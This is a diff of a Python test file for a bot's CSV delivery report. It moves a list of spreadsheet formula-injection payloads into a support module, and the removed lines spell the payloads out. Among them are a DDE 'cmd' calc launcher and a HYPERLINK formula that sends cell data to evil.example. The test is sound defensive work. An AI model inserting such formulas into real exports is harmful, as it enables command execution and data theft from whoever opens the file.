@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import csv
-import unicodedata
 from collections.abc import AsyncIterator
 from datetime import UTC, datetime
 from io import StringIO
@@ -15,14 +14,8 @@ from hypothesis import strategies as st
 from bot.announcements.model import Delivery, DeliveryState, OccurrenceId
 from bot.ids import ChatId, Locale
 from bot.reports.delivery_report import COLUMNS, cell, write_csv
+from tests.support.formulas import FORMULAS, is_harmless
 from tests.support.naughty_texts import NAUGHTY
-
-FORMULA_STARTS = "=+-@\t\r\n＝＋－＠"
-FORMULAS = [
-    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n@x",
-    "  =1+1", "\x00=1+1", "\u200b=1+1", "\u202e=1+1", "\ufeff=1+1", "\x1b[31m=1+1", "\u00a0=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
-    '=HYPERLINK("https://evil.example?x="&A1,"click")', "=1\n=2", 'x",=1+1', "x;=1+1", "'=1+1",
-]  # fmt: skip
 
 
 def row(reason: str) -> Delivery:
@@ -41,12 +34,6 @@ def row(reason: str) -> Delivery:
 async def each(rows: list[Delivery]) -> AsyncIterator[Delivery]:
     for one in rows:
         yield one
-
-
-def is_harmless(text: str) -> bool:
-    return not text.startswith(tuple(FORMULA_STARTS)) and not any(
-        unicodedata.category(letter) in ("Cc", "Cs") for letter in text
-    )
 
 
 @pytest.mark.parametrize("text", FORMULAS)
